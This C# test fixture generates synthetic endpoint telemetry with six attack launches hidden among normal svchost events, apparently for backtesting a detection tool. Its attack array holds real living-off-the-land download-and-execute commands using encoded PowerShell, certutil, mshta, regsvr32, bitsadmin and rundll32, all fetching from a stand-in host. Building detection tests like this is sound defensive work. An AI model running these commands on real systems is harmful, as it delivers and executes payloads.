using System.Text;
using System.Text.Json;
using Changeling.TestSupport;

namespace Changeling.Cli.Tests.Backtest;

/// <summary>A history with an attack on host <c>ws-bad</c> whose launches lie in the messages of many hosts.</summary>
internal static class ClusterHistory
{
    public const string Chain = "made/cluster";
    public static readonly DateTimeOffset Begin = new(2026, 11, 2, 6, 0, 0, TimeSpan.Zero);

    private static readonly (string Child, string CommandLine)[] Attack =
    [
        ("powershell.exe", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
        ("certutil.exe", @"certutil -urlcache -split -f http://192.0.2.7/a.txt C:\Users\Public\a.exe"),
        ("mshta.exe", "mshta http://192.0.2.7/a.hta"),
        ("regsvr32.exe", "regsvr32 /s /n /u /i:http://192.0.2.7/a.sct scrobj.dll"),
        ("bitsadmin.exe", @"bitsadmin /transfer a /download /priority high http://192.0.2.7/a.exe C:\Users\Public\b.exe"),
        (
            "rundll32.exe",
            @"rundll32 javascript:""\..\mshtml,RunHTMLApplication "";document.write();GetObject(""script:http://192.0.2.7/a.sct"")"),
    ];

    /// <summary>Launches of the attack.</summary>
    public static int Steps => Attack.Length;

    /// <summary>What really happened, a line for each step.</summary>
    public static byte[] Truth() => Encoding.UTF8.GetBytes(string.Join('\n', Attack.Select((_, i) => JsonSerializer.Serialize(
        new { time = AttackAt(i), chain = Chain, identity = $"sysmon-1|ws-bad|{GuidOf(i)}", label = 1 }))));

    /// <summary>
    /// Eight hosts at work for three hours; after half of it, six messages of theirs each hold a launch of another host besides.
    /// </summary>
    public static byte[] Events()
    {
        var lines = new List<(DateTimeOffset Time, byte[] Body)>();
        for (var minute = 0; minute < 180; minute++)
        {
            for (var host = 0; host < 8; host++)
            {
                var at = Begin.AddMinutes(minute).AddSeconds(host);
                lines.Add((at, Usual(host, at)));
            }
        }

        for (var i = 0; i < Attack.Length; i++)
        {
            var bad = Telemetry.Record("explorer.exe", Attack[i].Child, Attack[i].CommandLine, AttackAt(i), GuidOf(i), "WS-BAD");
            lines.Add((AttackAt(i), Telemetry.Many(Usual(i, AttackAt(i)), bad)));
        }

        return [.. "["u8, .. lines.OrderBy(l => l.Time).SelectMany((l, i) => i == 0 ? l.Body : [(byte)',', .. l.Body]), (byte)']'];
    }

    private static byte[] Usual(int host, DateTimeOffset at) =>
        Telemetry.Record(
            "services.exe",
            "svchost.exe",
            "svchost -k netsvcs",
            at,
            $"{{00000000-0000-0000-{host:d4}-{at.ToUnixTimeSeconds():d12}}}",
            $"ws-{host}");

    private static DateTimeOffset AttackAt(int step) => Begin.AddMinutes(91).AddSeconds((20 * step) + 0.5);

    private static string GuidOf(int step) => $"{{8d3f21b6-0000-0000-0000-00000000000{step}}}";
}
